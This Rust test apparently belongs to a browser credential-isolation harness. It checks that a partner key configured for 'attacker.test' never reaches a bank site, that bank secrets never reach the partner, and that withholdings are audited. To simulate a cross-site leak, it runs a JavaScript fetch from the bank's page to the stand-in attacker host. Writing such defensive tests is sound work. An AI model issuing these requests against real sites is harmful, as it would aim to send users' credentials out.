fn ag120_4_8_one_sites_credential_never_reaches_another_credential_site() {
    const PARTNER_KEY: &str = "SECRET-PARTNER-8e31f0";
    if common::bank::bare() {
        // Bare Chromium has no per-site credentials to compare against.
        return;
    }
    let w = World::start(|m| {
        m["credentials"].as_array_mut().unwrap().push(json!({
            "id": "partner",
            "site": "attacker.test",
            "headers": {"X-Partner-Key": PARTNER_KEY},
        }));
    });
    rt().block_on(async {
        let mut c = w.connect().await;
        // The partner's page asks the bank; the bank's page asks the partner.
        let partner = w.open(&mut c, &w.attacker("/partner-home")).await;
        let from_partner = c
            .eval(
                &partner,
                &format!(
                    "fetch('{}', {{mode: 'no-cors', cache: 'no-store'}}).then(() => 'sent', e => '' + e)",
                    w.bank("/echo?from=partner")
                ),
            )
            .await;
        assert_eq!(from_partner, "sent");
        let bank = w.open(&mut c, &w.bank("/account")).await;
        let from_bank = c
            .eval(
                &bank,
                &format!(
                    "fetch('{}', {{mode: 'no-cors', cache: 'no-store'}}).then(() => 'sent', e => '' + e)",
                    w.attacker("/from-bank")
                ),
            )
            .await;
        assert_eq!(from_bank, "sent");
        w.assert_bank_works(&mut c, &bank).await;
        w.assert_nothing_leaked(&c.seen);
    });
    let to_bank = w.sites.bank.requests_to("/echo");
    let cross = to_bank
        .iter()
        .find(|r| r.query("from").as_deref() == Some("partner"))
        .expect("the partner page's request reached the bank");
    assert!(
        !cross.authenticated(),
        "the bank's credential went with a request from another site"
    );
    let bank_saw = String::from_utf8_lossy(&w.sites.bank.everything()).to_string();
    assert!(
        !bank_saw.contains(PARTNER_KEY),
        "the partner's key reached the bank"
    );
    let partner_saw = w.sites.attacker.requests();
    let home = partner_saw
        .iter()
        .find(|r| r.path() == "/partner-home")
        .expect("the partner's own page was requested");
    assert_eq!(
        home.header("x-partner-key"),
        Some(PARTNER_KEY),
        "the partner's credential did not reach its own site"
    );
    let from_bank = partner_saw
        .iter()
        .find(|r| r.path() == "/from-bank")
        .expect("the bank page's request reached the partner");
    assert_eq!(
        from_bank.header("x-partner-key"),
        None,
        "the partner's credential went with a request from the bank's page"
    );
    let everything = String::from_utf8_lossy(&w.sites.attacker.everything()).to_string();
    for secret in common::bank::secrets() {
        assert!(
            !everything.contains(secret),
            "a bank secret reached the partner"
        );
    }
    let sup = w.sup().unwrap();
    let withheld: Vec<String> = sup
        .events("credential.withheld")
        .iter()
        .map(|r| r["credential"].as_str().unwrap_or_default().to_string())
        .collect();
    assert!(
        withheld.contains(&"bank".to_string()) && withheld.contains(&"partner".to_string()),
        "both withholdings are audited: {withheld:?}"
    );
}
